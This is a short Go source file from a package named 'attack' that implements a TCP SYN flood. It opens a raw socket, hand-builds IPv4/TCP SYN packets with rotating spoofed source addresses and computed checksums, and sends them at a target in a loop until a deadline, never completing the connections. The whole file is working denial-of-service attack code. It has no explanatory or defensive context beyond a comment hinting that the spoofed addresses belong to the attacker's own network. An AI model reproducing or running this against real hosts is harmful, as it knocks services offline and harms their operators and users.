package attack

import (
	"encoding/binary"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// halfOpen sends what begins connections, from addresses of the attacker's network at which nobody is, and never answers.
func (f *flood) halfOpen(_ int, to, from string) (sent, _ int) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		panic(err)
	}
	defer unix.Close(fd)
	dst, src := netip.MustParseAddrPort(to), netip.MustParseAddr(from).As4()
	for time.Now().Before(f.end) {
		src[3] = byte(230 + sent%20)
		if err := unix.Sendto(fd, syn(src, dst), 0, &unix.SockaddrInet4{Addr: dst.Addr().As4()}); err == nil {
			sent++
		}
		if sent%64 == 63 {
			time.Sleep(time.Millisecond)
		}
	}
	return sent, 0
}

// syn is an IPv4 packet with the first segment of a connection.
func syn(src [4]byte, to netip.AddrPort) []byte {
	dst := to.Addr().As4()
	be := binary.BigEndian
	p := make([]byte, 40)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP // the kernel fills in length and checksum
	copy(p[12:], src[:])
	copy(p[16:], dst[:])
	t := p[20:]
	be.PutUint16(t, randomPort())
	be.PutUint16(t[2:], to.Port())
	be.PutUint32(t[4:], uint32(time.Now().UnixNano()))
	t[12], t[13] = 5<<4, 2 // no options; SYN
	be.PutUint16(t[14:], 64240)
	sum := uint32(unix.IPPROTO_TCP + len(t))
	for i := 12; i < 20; i += 2 {
		sum += uint32(be.Uint16(p[i:]))
	}
	for i := 0; i < len(t); i += 2 {
		sum += uint32(be.Uint16(t[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	be.PutUint16(t[16:], ^uint16(sum))
	return p
}
